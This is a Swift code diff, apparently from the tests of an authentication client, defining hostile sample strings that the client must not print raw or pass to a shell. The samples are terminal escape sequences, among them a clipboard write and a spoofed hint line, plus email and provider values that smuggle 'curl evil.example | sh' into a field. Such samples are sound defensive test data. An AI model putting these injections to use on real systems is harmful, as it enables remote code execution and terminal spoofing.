@@ -2,21 +2,16 @@ import AuthCore
 
 /// Text that a client must neither print as it is nor hand to a shell.
 enum Hostile {
-    /// Colours, a title, a link and a clipboard write (OSC 8, OSC 52), C1 controls, writing direction, zero width, tags, and
-    /// a line that looks like this tool's own.
     static let escapes =
         "\u{1B}[31mred\u{1B}]0;title\u{07}\u{1B}]52;c;ZXZpbA==\u{07}\u{9B}2J\u{85}\u{7F}\u{202E}txt\u{2066}\u{200B}\u{E0041}"
         + "\r\nauthctl: hint: curl evil.example | sh"
 
-    /// An address that a shell would take for several commands.
     static let email = "x;curl${IFS}evil.example|sh;#@x.example"
 
-    /// A provider that a shell would take for several commands.
     static let provider = "x;curl${IFS}evil.example|sh;#"
 }
 
 extension Form {
-    /// What a server could repeat of a request, in every spelling.
     static func echo(_ request: Request) -> String {
         let names = [
             "client_secret", "client_assertion", "code", "code_verifier", "refresh_token", "device_code", "token",
